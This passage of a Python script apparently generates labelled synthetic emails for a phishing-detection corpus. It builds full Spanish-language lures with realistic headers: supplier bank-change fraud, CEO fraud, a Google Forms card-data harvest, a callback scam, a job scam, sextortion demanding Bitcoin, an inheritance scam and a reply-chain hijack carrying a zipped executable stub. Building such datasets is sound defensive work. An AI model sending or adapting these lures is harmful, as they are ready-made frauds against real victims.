<p style="font-size:11px;color:#616161">Declaración de privacidad de Microsoft</p>
</div></body></html>
"""
    plain = (f"{sharer} compartió un archivo con usted\n\nBuenos días, les comparto la Orden de Compra actualizada con las "
             f"nuevas condiciones de pago. Favor revisar y confirmar. Saludos.\n\nOC-2025-0412 Distribuidora Andina\n"
             f"Abrir: {link}\n\nEste vínculo solo funciona para los destinatarios directos de este mensaje.\n")
    ip = f"40.107.{num(stem, 200, 244)}.{num(stem + 'b', 2, 250)}"
    host = f"mail-dm6nam{num(stem + 'n', 10, 12)}on20{num(stem + 'm', 600, 799)}.outbound.protection.outlook.com"
    mid = outlook_msgid(stem)
    env = Env("m365", rcpt, d, ip, host, host, "no-reply@sharepointonline.com", "pass",
              [("sharepointonline.com", "selector1", "pass")], ("pass", "reject"), "sharepointonline.com", country="US")
    own = [dkim_sig("sharepointonline.com", "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
           f"From: {addr(sharer, 'no-reply@sharepointonline.com')}",
           f"To: {rcpt}",
           subj(f"{sharer} compartió \"OC-2025-0412 Distribuidora Andina\" con usted"),
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           f"Message-ID: {mid}",
           f"Reply-To: {addr(sharer, 'rquispe@distribuidoraandina.com.pe')}",
           "X-MS-Exchange-Organization-SharingInvite: true",
           "MIME-Version: 1.0"]
    emit(stem, "phishing", "Genuine SharePoint/OneDrive sharing notification sent from a compromised supplier's Microsoft 365 "
         "account, sharing a OneNote 'orden de compra' that links on to a credential-harvest page.", env, own,
         alt(plain, html, outlook_boundary(mid)))


def phish_bec_cambio_cuenta() -> None:
    stem = "b45-phish-bec-cambio-cuenta"
    d = when(2025, 8, 12, 16, 22, 8, "pe")
    dom = "grupoandes-sac.com"
    sender = f"lvargas@{dom}"
    rcpt = "tesoreria@mineraloschancas.com.pe"
    letter = files.pdf(["GRUPO ANDES S.A.C.", "RUC 20548812741", "", "Lima, 11 de agosto de 2025", "",
                        "Senores: MINERA LOS CHANCAS S.A.", "Atencion: Area de Tesoreria", "",
                        "Por medio de la presente les comunicamos que, por motivos de auditoria interna,",
                        "a partir de la fecha nuestros pagos deberan realizarse a la siguiente cuenta:", "",
                        "Banco: Interbank - Cuenta corriente en soles", "N. de cuenta: 200-3004187452",
                        "CCI: 003-200-003004187452-39", "Titular: GRUPO ANDES S.A.C.", "",
                        "Agradeceremos dejar sin efecto la cuenta BCP anterior.", "", "Luis Vargas Ticona",
                        "Jefe de Finanzas"], title="Carta cambio de cuenta")
    paras = [
        "Buenas tardes estimados,",
        "",
        "Les escribo para informarles que por un tema de auditoría interna nuestra cuenta BCP se encuentra temporalmente "
        "observada, por lo que les solicitamos que el pago de las facturas F001-3381 y F001-3394 (total S/ 148,620.00) "
        "se realice a nuestra nueva cuenta en Interbank. Adjunto la carta firmada con los datos.",
        "",
        "Les agradecería confirmar la fecha de pago y enviar la constancia a este correo. Por favor no llamar a la "
        "oficina, estamos en cierre con los auditores; cualquier consulta por este medio.",
        "",
        "Saludos cordiales,",
    ]
    sig = ["<b>Luis Vargas Ticona</b>", "Jefe de Finanzas", "GRUPO ANDES S.A.C.", "Av. Javier Prado Este 4200, Surco - Lima"]
    sh, hop = m365_sender(dom, sender, d, stem)
    mid = hop["msgid"]
    sh[2] = dkim_sig(dom, "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    html = outlook_html(paras, sig)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(strip_tags(s) for s in sig) + "\n"
    body = Multi("mixed", outlook_boundary(mid, "004"), [
        alt(plain, html, outlook_boundary(mid)),
        attachment("application/pdf", "Carta_cambio_cuenta_Grupo_Andes.pdf", letter),
    ])
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [(dom, "selector1", "pass")],
              ("pass", "none"), dom)
    own = sh + [
        f"From: {addr('Luis Vargas Ticona', sender)}",
        f"To: {addr('Tesorería Minera Los Chancas', rcpt)}",
        subj("RE: Pago facturas F001-3381 / F001-3394 - Cambio de cuenta bancaria"),
        *outlook_client_headers(stem, d, "Pago facturas F001-3381 / F001-3394 - Cambio de cuenta bancaria", attach=True, lang="es-PE"),
        f"Date: {rfc(d)}", f"Message-ID: {mid}", "MIME-Version: 1.0"]
    emit(stem, "phishing", "Supplier bank-change BEC from a hyphenated look-alike of a Peruvian supplier's domain on its own "
         "Microsoft 365 tenant: asks to pay two invoices to a new Interbank account, with a letter PDF and 'do not call'.",
         env, own, body)


def phish_reply_hijack_exe() -> None:
    stem = "b45-phish-reply-hijack-exe"
    d = when(2025, 11, 18, 9, 4, 17, "co")
    comp = "logisticaelcaribe.com.co"
    sender = f"compras@{comp}"
    rcpt = "jgomez@inversionesmedellin.com.co"
    z = files.zip_archive([("Cotizacion_actualizada_1118.exe", files.pe_stub())])
    quoted = ("\n\n-----Mensaje original-----\n"
              "De: Julián Gómez <jgomez@inversionesmedellin.com.co>\n"
              "Enviado: jueves, 6 de noviembre de 2025 16:12\n"
              "Para: Compras Logística El Caribe <compras@logisticaelcaribe.com.co>\n"
              "Asunto: RE: Cotización mantenimiento bodega Itagüí\n\n"
              "Buenas tardes Marcela,\n\nRecibida la cotización. La pasamos a aprobación de gerencia y les confirmamos "
              "la próxima semana. ¿Nos pueden actualizar el valor de la mano de obra para diciembre?\n\n"
              "Cordialmente,\nJulián Gómez\nJefe Administrativo\nInversiones Medellín S.A.S.\n")
    plain = ("Buenos días Julián,\n\nDe acuerdo con lo solicitado le envío la cotización actualizada con los valores para "
             "diciembre. El archivo está comprimido por el tamaño.\n\nQuedo atenta a su aprobación.\n\n"
             "Cordialmente,\nMarcela Restrepo\nCompras - Logística El Caribe S.A.S.\nCel. 300 512 8874" + quoted)
    body = Multi("mixed", f"=_{hexs(stem + 'zb', 24)}", [
        Leaf("text/plain", plain.encode("utf-8"), "quoted-printable", '; charset=utf-8'),
        attachment("application/zip", "Cotizacion_actualizada_1118.zip", z),
    ])
    ip = f"181.204.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}"
    env = Env("zimbra", rcpt, d, ip, f"mail.{comp}", f"mail.{comp}", sender, "pass", [(comp, "zimbra", "pass")],
              ("pass", "none"), comp, mx="mail.inversionesmedellin.com.co")
    own = [dkim_sig(comp, "zimbra", d, stem, h="Date:From:To:Message-ID:Subject:MIME-Version:From;"),
           f"Received: from mail.{comp} (localhost [127.0.0.1])\n\tby mail.{comp} (Postfix) with ESMTP id {tok(stem + 'q', 10, HEXU)}\n"
           f"\tfor <{rcpt}>; {rfc_named(d)}",
           f"Date: {rfc(d)}",
           f"From: {addr('Compras Logística El Caribe', sender)}",
           f"To: {addr('Julián Gómez', rcpt)}",
           f"Message-ID: <{num(stem, 100000000, 999999999)}.{num(stem + 'm', 1000000, 9999999)}.{int(d.timestamp() * 1000)}.JavaMail.zimbra@{comp}>",
           f"In-Reply-To: <{num(stem + 'r', 100000000, 999999999)}.{num(stem + 'rm', 1000000, 9999999)}.1762463520114.JavaMail.zimbra@inversionesmedellin.com.co>",
           subj("RE: Cotización mantenimiento bodega Itagüí"),
           "MIME-Version: 1.0",
           "X-Mailer: Zimbra 9.0.0_GA_4583 (ZimbraWebClient - GC130 (Win)/9.0.0_GA_4583)",
           "Thread-Topic: " + ew("Cotización mantenimiento bodega Itagüí"),
           f"Thread-Index: {tok(stem + 'ti', 28, B64)}"]
    emit(stem, "malware", "Reply-chain hijack from a compromised (Zimbra) supplier mailbox continuing a real quotation thread, "
         "attaching a zip with an executable 'cotización actualizada'.", env, own, body)


def phish_ceo_fraude() -> None:
    stem = "b45-phish-ceo-fraude"
    d = when(2025, 3, 12, 10, 48, 2, "ar")
    sender = "martin.ferreyra.dir@gmail.com"
    rcpt = "tesoreria@metalurgicaferreyra.com.ar"
    paras = ["Hola Silvina, ¿estás en la oficina?",
             "",
             "Estoy entrando a una reunión con el escribano y no puedo atender el teléfono. Necesito que me resuelvas hoy "
             "una transferencia urgente a un proveedor por la operación que estamos cerrando, es confidencial así que por "
             "ahora no lo comentes con nadie.",
             "",
             "Pasame por acá el saldo disponible en la cuenta del Galicia y te mando los datos. Después te explico.",
             "",
             "Martín",
             "Enviado desde mi iPhone"]
    plain = "\n".join(paras) + "\n"
    html = gmail_html(paras)
    sh, hop = gmail_sender(sender, d, stem)
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("gmail.com", "20230601", "pass")],
              ("pass", "none"), "gmail.com")
    own = sh + [f"From: {addr('Martín Ferreyra', sender)}", f"Date: {rfc(d)}", f"Message-ID: {gmail_msgid(stem)}",
                subj("Urgente"), f"To: {rcpt}"]
    emit(stem, "phishing", "CEO fraud in voseo: the owner's name on a free Gmail account asks treasury for the Galicia balance "
         "and an urgent confidential transfer; no link, no attachment.", env, own, alt(plain, html, gmail_boundary(stem)))


def phish_googleforms_itau() -> None:
    stem = "b45-phish-googleforms-itau"
    d = when(2025, 7, 22, 18, 14, 57, "uy")
    rcpt = "florencia.silva.uy@gmail.com"
    owner = "itau.seguridad.uy@gmail.com"
    form = f"https://docs.google.com/forms/d/e/1FAIpQLS{tok(stem + 'f', 48, URLSAFE)}/viewform?usp=mail_form_link"
    title = "Itaú - Validación de datos de tarjeta"
    html = f"""<html><head></head><body><div style="background:#f0ebf8;padding:24px 0"><table align="center" style="max-width:640px;width:100%;background:#fff;border-radius:8px;font-family:Roboto,Arial,sans-serif">
<tr><td style="padding:24px"><div style="font-size:14px;color:#202124">{owner} te invitó a completar un formulario:</div>
<div style="font-size:28px;color:#202124;margin:20px 0 8px">{title}</div>
<div style="font-size:14px;color:#202124;white-space:pre-wrap">Estimado cliente: por actualización del sistema de seguridad de Itaú Uruguay es obligatorio validar los datos de su tarjeta de débito/crédito antes del 25/07. De no hacerlo, la tarjeta quedará inhabilitada.</div>
<div style="margin-top:24px"><a href="{form}" style="background:#673ab7;color:#fff;padding:10px 24px;border-radius:4px;text-decoration:none;font-size:14px">COMPLETAR FORMULARIO</a></div>
</td></tr>
<tr><td style="padding:0 24px 24px;font-size:12px;color:#5f6368">¿Tienes problemas para ver o enviar este formulario?<br><a href="{form}" style="color:#1a73e8">Completa el formulario en Formularios de Google</a><br><br>
Nunca envíes contraseñas mediante Formularios de Google.<br><br>
<a href="https://docs.google.com/forms/u/0/d/e/1FAIpQLS{tok(stem + 'f', 48, URLSAFE)}/reportabuse" style="color:#1a73e8">Denunciar abuso</a> &middot; <a href="https://policies.google.com/terms" style="color:#1a73e8">Condiciones del Servicio</a></td></tr>
<tr><td style="padding:0 24px 24px;font-size:12px;color:#5f6368">Formularios de Google: Crea encuestas y cuestionarios.</td></tr></table></div></body></html>
"""
    plain = (f"{owner} te invitó a completar un formulario:\n\n{title}\n\nEstimado cliente: por actualización del sistema de "
             "seguridad de Itaú Uruguay es obligatorio validar los datos de su tarjeta de débito/crédito antes del 25/07. "
             f"De no hacerlo, la tarjeta quedará inhabilitada.\n\nCOMPLETAR FORMULARIO: {form}\n\n"
             "Nunca envíes contraseñas mediante Formularios de Google.\n")
    ip = f"209.85.220.{num(stem, 41, 73)}"
    host = f"mail-sor-f{num(stem + 'h', 41, 73)}.google.com"
    mf = f"3{tok(stem + 'mf', 30, ALNUM)}@docos.bounces.google.com"
    env = Env("gmail", rcpt, d, ip, host, host, mf, "pass", [("google.com", "20230601", "pass")], ("pass", "reject"), "google.com")
    own = [dkim_sig("google.com", "20230601", d, stem, h="reply-to:mime-version:message-id:date:subject:from:to:\n\tcontent-type:from:to:cc:subject:date:message-id:reply-to"),
           f"X-Google-Smtp-Source: AGHT+I{tok(stem + 'xs', 60, B64)}",
           f"Reply-To: {owner}",
           "MIME-Version: 1.0",
           f"Message-ID: <{tok(stem + 'mid', 22, URLSAFE)}-{tok(stem + 'mid2', 20, URLSAFE)}@docs-share.google.com>",
           f"Date: {rfc(d.astimezone(timezone.utc)).replace('-0000', '+0000')}",
           subj(title),
           f"From: {addr(f'{owner} (a través de Formularios de Google)', 'forms-receipts-noreply@google.com', quote=True)}",
           f"To: {rcpt}"]
    emit(stem, "phishing", "Itaú Uruguay card-validation lure delivered as a genuine Google Forms invitation (google.com, "
         "DKIM/DMARC pass) from a Gmail account, the form collecting card data.", env, own,
         alt(plain, html, gmail_boundary(stem)))


def phish_callback_mercadolibre() -> None:
    stem = "b45-phish-callback-mercadolibre"
    d = when(2025, 11, 26, 20, 31, 40, "ar")
    sender = "resumen.compras.ml@gmail.com"
    rcpt = "patricia.lorenzo58@hotmail.com"
    phone = "011 5263-8840"
    pdf = files.pdf(["MERCADO LIBRE - Comprobante de compra", "", "Operacion N. 2000009876543012",
                     "Fecha: 26/11/2025 19:58", "Producto: Smart TV Samsung 55\" Crystal UHD 4K", "Cantidad: 1",
                     "Total cobrado: $ 899.999 (tarjeta terminada en 4417)", "",
                     f"Si usted no realizo esta compra comuniquese de inmediato al {phone}",
                     "Atencion 24 hs - Area de Prevencion de Fraude"], title="Comprobante de compra")
    paras = ["Hola,", "",
             "Confirmamos tu compra de <b>Smart TV Samsung 55\" Crystal UHD 4K</b> por <b>$ 899.999</b> con tu tarjeta "
             "terminada en 4417. Te adjuntamos el comprobante.",
             "",
             f"Si <b>no reconocés</b> esta compra comunicate de inmediato con nuestro Área de Prevención de Fraude al "
             f"<b>{phone}</b> (atención 24 hs) para cancelarla antes del despacho.",
             "", "Mercado Libre"]
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    html = gmail_html(paras)
    sh, hop = gmail_sender(sender, d, stem)
    b = gmail_boundary(stem)
    body = Multi("mixed", b, [alt(plain, html, gmail_boundary(stem + "a")),
                              attachment("application/pdf", "Comprobante_ML_2000009876543012.pdf", pdf)])
    env = Env("outlook", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("gmail.com", "20230601", "pass")],
              ("pass", "none"), "gmail.com", country="US")
    own = sh + [f"From: {addr('Mercado Libre Compras', sender)}", f"Date: {rfc(d)}", f"Message-ID: {gmail_msgid(stem)}",
                subj("Confirmamos tu compra - Operación 2000009876543012"), f"To: {rcpt}"]
    emit(stem, "phishing", "Callback scam: fake Mercado Libre purchase confirmation ($899.999 TV) from Gmail with a PDF "
         "receipt, asking the victim to phone a fake fraud-prevention number; no links.", env, own, body)


def phish_trabajo_whatsapp() -> None:
    stem = "b45-phish-trabajo-whatsapp"
    d = when(2025, 5, 30, 11, 26, 18, "pe")
    dom = "talentoremoto-pe.com"
    rcpt = "brenda.salazar.p@gmail.com"
    wa = "https://wa.me/51912448703?text=Hola%2C%20quiero%20informaci%C3%B3n%20del%20trabajo"
    title = "¡Fuiste preseleccionada para trabajo remoto!"
    paras = [
        "Hola Brenda,",
        "Revisamos tu perfil en Computrabajo y fuiste <b>preseleccionada</b> para un puesto de <b>asistente de marketing "
        "digital</b> a tiempo parcial, 100% desde casa.",
        "Tu tarea: dar \"me gusta\" y calificar productos y videos de nuestros clientes (Amazon, YouTube, TikTok). "
        "Solo necesitas 30 a 60 minutos al día y tu celular.",
        "<b>Pago: S/ 150 a S/ 400 diarios</b>, depositados por Yape, Plin o transferencia el mismo día.",
        "Cupos limitados. Escríbenos por WhatsApp para recibir tu capacitación:",
    ]
    button = ("Escribir por WhatsApp", wa)
    footer = ["Talento Remoto Perú - Reclutamiento", "Si no deseas recibir más correos, responde BAJA."]
    html = brand_html("Talento Remoto", "#25d366", title, paras, button, footer)
    plain = brand_plain(title, paras, button, footer)
    ip = f"77.32.148.{num(stem, 2, 250)}"
    mf = f"{tok(stem + 'b', 28, string.ascii_lowercase + DIG)}@bounces.brevosend.com"
    env = Env("gmail", rcpt, d, ip, f"m{num(stem, 10, 99)}.mx-ptr.brevo.com", f"m{num(stem, 10, 99)}.mx-ptr.brevo.com", mf, "pass",
              [(dom, "brevo1", "pass"), ("brevosend.com", "mail", "pass")], None, dom)
    own = [dkim_sig(dom, "brevo1", d, stem, h="Date:Subject:Reply-To:From:To:Message-Id:List-Unsubscribe:\n\tList-Unsubscribe-Post:Mime-Version"),
           dkim_sig("brevosend.com", "mail", d, stem + "b", h="Date:Subject:Reply-To:From:To:Message-Id:List-Unsubscribe:\n\tList-Unsubscribe-Post:Mime-Version"),
           f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
           subj("¡Fuiste preseleccionada! Trabajo remoto S/ 150 - 400 diarios"),
           f"Reply-To: reclutamiento.talentoremoto@gmail.com",
           f"From: {addr('Talento Remoto Perú', f'empleos@{dom}')}",
           f"To: {rcpt}",
           f"Message-Id: <{int(d.timestamp() * 1000)}.{num(stem, 100000, 999999)}@smtp-relay.mailin.fr>",
           f"List-Unsubscribe: <https://{tok(stem + 'u', 5, string.ascii_lowercase)}.r.sp1-brevo.net/ou/{tok(stem + 'unsub', 40, URLSAFE)}>",
           "List-Unsubscribe-Post: List-Unsubscribe=One-Click",
           f"X-Mailin-EID: {tok(stem + 'eid', 40, B64)}",
           "Mime-Version: 1.0"]
    emit(stem, "phishing", "Task/job scam (paid likes, S/ 150-400 a day) sent through a Brevo account, pushing the victim to a "
         "WhatsApp wa.me number for 'training'.", env, own, alt(plain, html, f"{hexs(stem + 'bb', 32)}"))


def phish_inversion_ypf() -> None:
    stem = "b45-phish-inversion-ypf"
    d = when(2025, 4, 16, 21, 5, 33, "ar")
    dom = "finanzas-hoy-ar.com"
    link = f"https://{dom}/nota/ypf-plataforma/?utm_source=mail&utm_campaign=ar0416&sub={tok(stem, 10, ALNUM)}"
    simple_brand_phish(
        stem, d, dom, hostwinds(stem), "outlook", "raul.dominguez.63@hotmail.com", "Finanzas Hoy", "noticias",
        "YPF lanza plataforma: invertí desde $150.000 y cobrá hasta $1.200.000 por mes", "FINANZAS HOY", "#0d2c54",
        "YPF abre su plataforma de inversión a todos los argentinos",
        ["El presidente de YPF confirmó que la petrolera habilitó una plataforma para que cualquier argentino pueda "
         "invertir en Vaca Muerta <b>desde $150.000</b>.",
         "Según los primeros usuarios, la plataforma genera <b>ganancias de hasta $1.200.000 por mes</b> de forma "
         "automática gracias a un algoritmo de inteligencia artificial.",
         "Los cupos son limitados: un asesor te llama dentro de las 24 horas para activar tu cuenta."],
        ("Quiero invertir", link),
        ["Finanzas Hoy - Newsletter", "Para darte de baja respondé este correo."],
        "Investment scam newsletter: fake 'YPF investment platform' with AI-generated returns, linking to a fake news "
        "article that collects phone numbers for call-centre follow-up.", country="US")


def phish_sextorsion() -> None:
    stem = "b45-phish-sextorsion"
    d = when(2025, 1, 8, 3, 17, 44, "cl")
    rcpt = "contacto@drsandoval.cl"
    ip = f"103.145.{num(stem, 1, 250)}.{num(stem + 'b', 2, 250)}"
    text_body = (
        "Hola,\n\n"
        "Tengo malas noticias para ti. Hace unos meses obtuve acceso a los dispositivos que usas para navegar por "
        "internet. Como puedes ver, te envié este correo desde tu propia cuenta.\n\n"
        "Instalé un software en tu sistema operativo que me permite ver todo lo que haces y acceder a tu cámara y "
        "micrófono. Descargué todos tus contactos, tus conversaciones y tu historial de navegación.\n\n"
        "Además, grabé un video tuyo mientras visitabas sitios para adultos: en una parte de la pantalla se ve el video "
        "y en la otra se te ve a ti. Con un solo clic puedo enviarlo a todos tus contactos de correo, WhatsApp y redes "
        "sociales.\n\n"
        "Si quieres evitarlo, transfiere 1300 USD en Bitcoin a mi billetera:\n\n"
        "bc1qxr7k9dm5a4ts3lq8n6ehw2f0gyu7vjp3c5z9ak\n\n"
        "(Si no sabes cómo hacerlo, busca en Google \"comprar bitcoin\").\n\n"
        "Tienes 48 horas desde que abras este correo. Recibí una notificación cuando lo leíste. Si pagas, borro todo y "
        "no volverás a saber de mí. No respondas este correo ni acudas a la policía: lo sabré.\n")
    env = Env("postfix", rcpt, d, ip, "", f"[{ip}]", rcpt, "fail", [], ("fail", "quarantine"), "drsandoval.cl",
              mx="mail.drsandoval.cl")
    own = [f"From: {rcpt}", f"To: {rcpt}", subj("Tu cuenta fue hackeada - lee esto con atención"),
           f"Date: {rfc(d)}", f"Message-ID: <{hexs(stem, 12)}{hexs(stem + 'x', 8)}@drsandoval.cl>",
           "X-Mailer: Microsoft Outlook 16.0", "MIME-Version: 1.0", "X-Priority: 3"]
    emit(stem, "phishing", "Spanish sextortion with the recipient's own address spoofed as sender (SPF/DMARC fail), "
         "demanding 1300 USD in Bitcoin; no link.", env, own, text(text_body, "plain", "8bit", "utf-8"))


def phish_herencia_bolivia() -> None:
    stem = "b45-phish-herencia-bolivia"
    d = when(2024, 6, 4, 5, 12, 9, "bo")
    sender = "lic.fruizcastellanos@outlook.es"
    rcpt = "mariela.choque.q@gmail.com"
    paras = [
        "Estimada Sra. Choque:",
        "",
        "Le saluda el Lic. Fernando Ruiz Castellanos, abogado del bufete Ruiz Castellanos & Asociados en Madrid, España.",
        "",
        "Me pongo en contacto con usted en relación a mi difunto cliente, el Sr. Alberto Choque Mendoza, ciudadano "
        "boliviano residente en España, quien falleció junto a su esposa en un accidente de tránsito en 2021 sin dejar "
        "testamento ni herederos conocidos. Su depósito de <b>4.850.000,00 EUR</b> permanece en una entidad bancaria de "
        "Madrid que me ha pedido presentar un familiar antes de que los fondos pasen al Estado.",
        "",
        "Al compartir usted el mismo apellido, le propongo presentarla como beneficiaria. Todo el trámite es legal y "
        "sin riesgo; repartiremos los fondos 50/50. Le ruego total discreción.",
        "",
        "Si está interesada, responda a mi correo privado <b>fruizcastellanos.abogado@gmail.com</b> con su nombre "
        "completo, número de celular/WhatsApp y ocupación.",
        "",
        "Atentamente,",
        "Lic. Fernando Ruiz Castellanos",
        "Ruiz Castellanos & Asociados - Calle de Serrano 41, Madrid",
    ]
    html = outlook_html(paras)
    plain = "\n".join(strip_tags(p) for p in paras) + "\n"
    sh, hop = m365_sender("outlook.es", sender, d, stem, outlook_com=True)
    sh[1] = dkim_sig("outlook.es", "selector1", d, stem, h="From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck")
    mid = outlook_msgid(stem, consumer=True)
    env = Env("gmail", rcpt, d, hop["ip"], hop["rdns"], hop["rdns"], sender, "pass", [("outlook.es", "selector1", "pass")],
              ("pass", "none"), "outlook.es")
    own = sh + [
        f"From: {addr('Lic. Fernando Ruiz Castellanos', sender)}",
        f"To: {rcpt}",
        f"Reply-To: fruizcastellanos.abogado@gmail.com",
        subj("Asunto confidencial - Herencia familia Choque"),
        *outlook_client_headers(stem, d, "Asunto confidencial - Herencia familia Choque", lang="es-ES"),
        f"Date: {rfc(d.astimezone(ZoneInfo('Europe/Madrid')))}", f"Message-ID: {mid}", "MIME-Version: 1.0"]
    emit(stem, "phishing", "Advance-fee 'herencia de un familiar con su mismo apellido' (4,85 M EUR) to a Bolivian recipient "
         "from an Outlook.es account with a Gmail reply address; no link.", env, own, alt(plain, html, outlook_boundary(mid)))


# --------------------------------------------------------------------------------------------------
# legitimate mail
# --------------------------------------------------------------------------------------------------

CENTRAL = ZoneInfo("America/Chicago")


def sfmc_headers(stem: str, d: datetime, dom: str, from_name: str, from_local: str, rcpt: str, subject: str,
                 mid_num: int, unsubscribe: bool = True) -> tuple[list[str], dict, str]:
    """Headers of a Salesforce Marketing Cloud send from a brand's sender-authentication package subdomain."""
    job = num(stem + "job", 1000000, 9999999)
    sub = num(stem + "sub", 100000000, 999999999)
    host = sfmc(stem)
    host["rdns"] = f"mta{num(stem + 'mta', 1, 9)}.{dom}"
    mf = f"bounce-{num(stem + 'b', 10, 99)}_HTML-{sub}-{mid_num}-{job}-{num(stem + 'c', 1, 99)}@bounce.{dom}"
    hdrs = [dkim_sig(dom, "200608", d, stem, h="From:To:Subject:Date:MIME-Version:Content-Type:List-Unsubscribe:Message-ID"),
            f"Received: by {host['rdns']} id {tok(stem + 'rid', 12, string.ascii_lowercase + DIG)} for <{rcpt}>; "
            f"{rfc(d.astimezone(CENTRAL))} (envelope-from <{mf}>)",
            f"From: {addr(from_name, f'{from_local}@{dom}', quote=True)}",
            f"To: <{rcpt}>",
            subj(subject),
            f"Date: {rfc(d.astimezone(CENTRAL))}"]
    if unsubscribe:
        hdrs += [f"List-Unsubscribe: <https://click.{dom}/subscription_center.aspx?jwt={tok(stem + 'jwt', 60, URLSAFE)}>, "
                 f"<mailto:leave-{hexs(stem + 'lv', 40)}@{dom}>",
                 "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]
    hdrs += ["MIME-Version: 1.0",
             "Reply-To: " + addr(from_name, f"reply-{hexs(stem + 'rp', 36)}@{dom}", quote=True),
             f"x-job: {mid_num}_{job}",
             f"Message-ID: {sfmc_msgid(stem)}"]
    return hdrs, host | {"mailfrom": mf}, f"https://click.{dom}/?qs={hexs(stem + 'qs', 96)}"


def ses_headers(stem: str, d: datetime, dom: str, mf_dom: str, from_name: str, from_addr: str, rcpt: str, subject: str,
                extra: list[str] | None = None, region: str = "us-east-1") -> tuple[list[str], dict]:
    host = ses(stem)
    mf = f"{ses_msgid(stem, d, region).strip('<>').split('@')[0]}@{mf_dom}"
    hdrs = [dkim_sig(dom, f"{tok(stem + 'sel', 32, string.ascii_lowercase + DIG)}", d, stem,
                     h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type"),
            dkim_sig("amazonses.com", "224i4yxa5dv7c2xz3womw6peuasteono", d, stem + "ses",
                     h="Date:From:To:Message-ID:Subject:MIME-Version:Content-Type:Feedback-ID"),
            f"Date: {rfc(utc(d)).replace('-0000', '+0000')}",
            f"From: {addr(from_name, from_addr, quote=True)}",
            f"To: {rcpt}",
            f"Message-ID: {ses_msgid(stem, d, region)}",
            subj(subject),
            "MIME-Version: 1.0"]
    hdrs += extra or []
    hdrs.append(f"Feedback-ID: ::1.{region}.{tok(stem + 'fb', 43, B64)}=:AmazonSES")
    hdrs.append(f"X-SES-Outgoing: {d.astimezone(timezone.utc).strftime('%Y.%m.%d')}-{host['ip']}")
    return hdrs, host | {"mailfrom": mf}


def legit_galicia_dispositivo() -> None:
    stem = "b45-legit-galicia-nuevo-dispositivo"
    d = when(2025, 3, 19, 8, 12, 47, "ar")
    dom = "mensajes.galicia.ar"
    rcpt = "lucianagomez.88@gmail.com"
    hdrs, host, click = sfmc_headers(stem, d, dom, "Galicia", "avisos", rcpt, "Ingresaste a Online Banking desde un nuevo dispositivo",
                                     num(stem, 500000, 599999), unsubscribe=False)
    title = "Ingresaste desde un nuevo dispositivo"
    paras = [
        "Hola Luciana,",
        "Registramos un ingreso a Online Banking Galicia desde un dispositivo que no habías usado antes:",
        "<b>Fecha:</b> 19/03/2025 - 08:11 hs<br><b>Dispositivo:</b> Chrome en Windows<br><b>Ubicación aproximada:</b> "
        "Córdoba, Argentina",
        "Si fuiste vos, no tenés que hacer nada.",
        "Si no reconocés este ingreso, llamanos ya al <b>0810-444-6500</b> las 24 horas o bloqueá tu acceso desde la "
        "App Galicia en Menú &gt; Seguridad.",
    ]
    after = ["Recordá: Galicia nunca te va a pedir por mail, teléfono o WhatsApp tus claves, el código del Galicia "
             "Token ni los datos de tu tarjeta."]
    footer = ["Banco de Galicia y Buenos Aires S.A.U. CUIT 30-50000173-5. Tte. Gral. Juan D. Perón 430, C.A.B.A.",
              f'<a href="{click}&amp;l=priv" style="color:#888888">Política de privacidad</a> | '
              f'<a href="{click}&amp;l=seg" style="color:#888888">Consejos de seguridad</a>',
              "Este es un mensaje automático. No respondas a este correo."]
    html = brand_html("Galicia", "#fa6400", title, paras, None, footer, after=after,
                      logo="https://image.mensajes.galicia.ar/lib/fe3a15707564047e7c1c/m/1/logo-galicia.png")
    html = html.replace("</body>", f'<img src="https://click.{dom}/open.aspx?ffcb10-{hexs(stem + "op", 60)}" width="1" height="1" alt="">\n</body>')
    plain = brand_plain(title, paras, None, footer, after)
    env = Env("gmail", rcpt, d, host["ip"], host["rdns"], host["rdns"], host["mailfrom"], "pass",
              [(dom, "200608", "pass")], ("pass", "reject"), dom)
    emit(stem, "bulk", "Genuine Banco Galicia new-device login alert sent through Salesforce Marketing Cloud from the bank's "
         "own subdomain, with a phone number and the usual 'we never ask for your keys' note.", env, hdrs,
         alt(plain, html, java_boundary(stem, d)))


def ml_headers(stem: str, d: datetime, dom: str, from_name: str, from_addr: str, rcpt: str, subject: str,
               unsubscribe: bool = False) -> tuple[list[str], dict]:
    host = ml_sender(stem)
    mf = f"bounce-{tok(stem + 'bnc', 24, string.ascii_lowercase + DIG)}@{dom}"
    hdrs = [dkim_sig(dom, "mlsel", d, stem, h="from:to:subject:date:message-id:mime-version:content-type"),
            f"Received: from mail-sender-{hexs(stem + 'ms', 6)} ({host['rdns']}) by {host['rdns']} with ESMTP; {rfc(utc(d)).replace('-0000', '+0000')}",
            f"Date: {rfc(d)}",
            f"From: {addr(from_name, from_addr)}",
            f"To: {rcpt}",
            f"Message-ID: <{guid(stem + 'mid')}@{dom}>",
            subj(subject),
            "MIME-Version: 1.0"]
    if unsubscribe:
        hdrs.append(f"List-Unsubscribe: <https://myaccount.{dom}/communications/unsubscribe?t={tok(stem + 'u', 40, URLSAFE)}>")
    return hdrs, host | {"mailfrom": mf}


def legit_mercadopago_transferencia() -> None:
    stem = "b45-legit-mercadopago-transferencia"
    d = when(2025, 8, 22, 13, 4, 51, "ar")
    dom = "mercadopago.com"
    rcpt = "fede.arias.ok@gmail.com"
    hdrs, host = ml_headers(stem, d, dom, "Mercado Pago", f"info@{dom}", rcpt, "Recibiste $ 25.000 de Julieta Ramos")
    title = "Recibiste $ 25.000"
    op = num(stem, 100000000000, 199999999999)
    paras = [
        "Hola Federico,",
        "<b>Julieta Ramos</b> te transfirió <b>$ 25.000</b>. El dinero ya está disponible en tu cuenta.",
